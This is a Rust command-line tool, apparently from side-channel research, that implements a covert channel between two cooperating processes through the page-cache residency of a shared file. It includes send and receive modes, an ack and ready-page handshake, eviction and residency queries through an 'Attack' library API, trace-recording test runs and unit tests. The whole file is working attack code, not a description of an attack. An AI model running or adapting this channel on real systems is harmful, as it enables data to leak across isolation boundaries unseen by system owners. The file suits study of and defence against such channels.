//! Page-cache covert channel.
//!
//! Two cooperating processes communicate through the residency of a shared
//! transmission file: the sender caches one page per 1-bit of the message,
//! the receiver reads the bits back with a residency query. Three control
//! pages carry the handshake: one ack page and two alternating ready pages.
//! Start the receiver first; swapping should be disabled.
//!
//! In test mode each side writes a little-endian binary trace:
//! `u64 message_size, u64 run_count`, then per run
//! `u64 timestamp_ns` followed by the payload bytes.

use std::fs::File;
use std::io::{BufRead, Write};
use std::path::PathBuf;
use std::process::ExitCode;
use std::sync::Arc;

use clap::Parser;

use pagepress_core::{
    Advice, Attack, AttackConfig, Error, TargetFile, create_random_file, sys,
};

const SEND_TRACE_FILE: &str = "snd_trace.bin";
const RECEIVE_TRACE_FILE: &str = "rcv_trace.bin";

#[derive(Parser)]
#[command(name = "covert_channel")]
#[command(about = "Covert channel over the residency of a shared transmission file")]
#[command(version = pagepress_core::VERSION)]
struct Cli {
    /// Shared transmission file; created with random content if missing
    transmission_file: PathBuf,

    /// Send mode
    #[arg(short = 's', conflicts_with = "receive")]
    send: bool,

    /// Receive mode
    #[arg(short = 'r')]
    receive: bool,

    /// Test mode: run RUNS transmission cycles with random payloads and
    /// record a trace file
    #[arg(short = 't', value_name = "RUNS")]
    test_runs: Option<u64>,

    /// Message size in bytes per transmission round
    #[arg(long, default_value_t = 1024)]
    message_size: usize,
}

/// Page layout of the transmission file, derived from the message size.
struct Channel {
    /// One page per message bit.
    message_pages: usize,
    /// Receiver → sender handshake page.
    ack_page: usize,
    /// Sender → receiver handshake pages, alternating per round.
    ready_pages: [usize; 2],
}

impl Channel {
    fn new(message_size: usize) -> Self {
        let message_pages = message_size * 8;
        Self {
            message_pages,
            ack_page: message_pages,
            ready_pages: [message_pages + 1, message_pages + 2],
        }
    }

    fn file_pages(&self) -> usize {
        self.message_pages + 3
    }
}

fn main() -> ExitCode {
    env_logger::init();
    let cli = Cli::parse();

    if cli.send == cli.receive {
        eprintln!("[USAGE] exactly one of -s (send) or -r (receive) is required");
        return ExitCode::FAILURE;
    }
    if cli.message_size == 0 {
        eprintln!("[FAIL] message size must be at least one byte");
        return ExitCode::FAILURE;
    }
    if let Err(e) = pagepress_core::install_signal_handlers() {
        eprintln!("[FAIL] installing signal handlers: {e}");
        return ExitCode::FAILURE;
    }

    match run(&cli) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("[FAIL] {e}");
            ExitCode::FAILURE
        }
    }
}

fn run(cli: &Cli) -> pagepress_core::Result<()> {
    let channel = Channel::new(cli.message_size);
    let file_size = channel.file_pages() * sys::page_size();
    create_random_file(&cli.transmission_file, file_size)?;

    let mut attack = Attack::new(AttackConfig::default())?;
    let target = attack.add_target_file(&cli.transmission_file)?;
    target.set_target_sequence(0, channel.file_pages())?;
    let target_path = target.path().to_path_buf();
    attack.start()?;
    let target = attack
        .target(&target_path)
        .ok_or_else(|| Error::Environment("transmission target missing after start".into()))?;

    // The receiver opens the conversation with one initial ack.
    if cli.receive {
        target.mapping().touch_page(channel.ack_page);
    }

    let (files, bytes) = attack.working_set_summary();
    println!("[INFO] initial working set consists of {files} files ({bytes} bytes resident)");
    println!("[OK] ready\n");

    let test_runs = cli.test_runs.unwrap_or(0);
    let mut trace = match cli.test_runs {
        Some(runs) => {
            let path = if cli.send {
                SEND_TRACE_FILE
            } else {
                RECEIVE_TRACE_FILE
            };
            let mut file = File::create(path).map_err(Error::from)?;
            file.write_all(&(cli.message_size as u64).to_le_bytes())
                .map_err(Error::from)?;
            file.write_all(&runs.to_le_bytes()).map_err(Error::from)?;
            Some(file)
        }
        None => None,
    };

    let mut message = vec![0u8; cli.message_size];
    let mut ready_idx = 0usize;
    let mut run_idx = 0u64;

    if cli.send {
        println!("[INFO] sender started at unix timestamp {} us", sys::unix_ts_us());
        while pagepress_core::running() && (test_runs == 0 || run_idx < test_runs) {
            if trace.is_some() {
                getrandom::fill(&mut message)
                    .map_err(|_| Error::Environment("OS RNG failed".into()))?;
            } else if !read_message_line(&mut message)? {
                break;
            }

            let timestamp_ns = sys::unix_ts_ns();
            if !send_block(&attack, &target, &channel, &message, &mut ready_idx)? {
                break;
            }
            if let Some(file) = trace.as_mut() {
                write_trace_record(file, timestamp_ns, &message)?;
            }
            run_idx += 1;
        }
    } else {
        while pagepress_core::running() && (test_runs == 0 || run_idx < test_runs) {
            if !receive_block(&attack, &target, &channel, &mut message, &mut ready_idx)? {
                break;
            }
            let timestamp_ns = sys::unix_ts_ns();
            match trace.as_mut() {
                Some(file) => write_trace_record(file, timestamp_ns, &message)?,
                None => println!("{}", String::from_utf8_lossy(&message)),
            }
            run_idx += 1;
        }
        println!("[INFO] receiver stopped at unix timestamp {} us", sys::unix_ts_us());
    }

    Ok(())
}

/// Transmit one message. The sender waits for the receiver's ack, flushes
/// the whole transmission window out of the page cache, caches one page per
/// 1-bit, and finally raises the round's ready page.
///
/// Returns `false` when a shutdown request interrupted the handshake.
fn send_block(
    attack: &Attack,
    target: &Arc<TargetFile>,
    channel: &Channel,
    message: &[u8],
    ready_idx: &mut usize,
) -> pagepress_core::Result<bool> {
    if !wait_for_cached(attack, target, channel.ack_page)? {
        return Ok(false);
    }

    attack.sample_and_evict_sequence(target)?;

    let page_size = sys::page_size();
    // Prefetch first so the disk reads overlap.
    for page in message_bit_pages(message, channel.message_pages) {
        let _ = target
            .mapping()
            .advise(page * page_size, page_size, Advice::WillNeed);
    }
    for page in message_bit_pages(message, channel.message_pages) {
        target.mapping().touch_page(page);
    }

    target.mapping().touch_page(channel.ready_pages[*ready_idx]);
    *ready_idx ^= 1;
    Ok(true)
}

/// Receive one message: wait for the round's ready page, read the message
/// bits from the residency of the message pages, then ack.
///
/// Returns `false` when a shutdown request interrupted the handshake.
fn receive_block(
    attack: &Attack,
    target: &Arc<TargetFile>,
    channel: &Channel,
    message: &mut [u8],
    ready_idx: &mut usize,
) -> pagepress_core::Result<bool> {
    if !wait_for_cached(attack, target, channel.ready_pages[*ready_idx])? {
        return Ok(false);
    }
    *ready_idx ^= 1;

    let status = attack.status_range(target, 0, channel.message_pages)?;
    message.fill(0);
    for (page, state) in status.iter().enumerate() {
        if state & 1 == 1 {
            message[page / 8] |= 1 << (page % 8);
        }
    }

    target.mapping().touch_page(channel.ack_page);
    Ok(true)
}

/// Pages that must be cached to encode the 1-bits of `message`,
/// least-significant bit first within each byte.
fn message_bit_pages<'a>(
    message: &'a [u8],
    message_pages: usize,
) -> impl Iterator<Item = usize> + 'a {
    (0..message_pages).filter(move |page| message[page / 8] >> (page % 8) & 1 == 1)
}

fn wait_for_cached(
    attack: &Attack,
    target: &Arc<TargetFile>,
    page: usize,
) -> pagepress_core::Result<bool> {
    while pagepress_core::running() {
        if attack.page_cached(target, page)? {
            return Ok(true);
        }
    }
    Ok(false)
}

fn write_trace_record(
    file: &mut File,
    timestamp_ns: u64,
    payload: &[u8],
) -> pagepress_core::Result<()> {
    file.write_all(&timestamp_ns.to_le_bytes())
        .map_err(Error::from)?;
    file.write_all(payload).map_err(Error::from)?;
    file.sync_data().map_err(Error::from)?;
    Ok(())
}

/// Read one interactive message from stdin, zero-padded/truncated to the
/// message size. Returns `false` on EOF.
fn read_message_line(message: &mut [u8]) -> pagepress_core::Result<bool> {
    print!("Message> ");
    std::io::stdout().flush().map_err(Error::from)?;

    let mut line = String::new();
    let read = std::io::stdin()
        .lock()
        .read_line(&mut line)
        .map_err(Error::from)?;
    if read == 0 {
        return Ok(false);
    }

    message.fill(0);
    let bytes = line.trim_end_matches('\n').as_bytes();
    let n = bytes.len().min(message.len());
    message[..n].copy_from_slice(&bytes[..n]);
    Ok(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn channel_layout_reserves_three_control_pages() {
        let channel = Channel::new(1);
        assert_eq!(channel.message_pages, 8);
        assert_eq!(channel.ack_page, 8);
        assert_eq!(channel.ready_pages, [9, 10]);
        assert_eq!(channel.file_pages(), 11);
    }

    #[test]
    fn message_bits_map_to_pages_lsb_first() {
        let channel = Channel::new(1);
        let pages: Vec<usize> = message_bit_pages(&[0xA5], channel.message_pages).collect();
        assert_eq!(pages, vec![0, 2, 5, 7]);
    }

    #[test]
    fn receiver_decoding_inverts_sender_encoding() {
        let channel = Channel::new(2);
        let sent = [0xA5u8, 0x3C];
        let mut status = vec![0u8; channel.message_pages];
        for page in message_bit_pages(&sent, channel.message_pages) {
            status[page] = 1;
        }

        let mut received = [0u8; 2];
        for (page, state) in status.iter().enumerate() {
            if state & 1 == 1 {
                received[page / 8] |= 1 << (page % 8);
            }
        }
        assert_eq!(received, sent);
    }
}
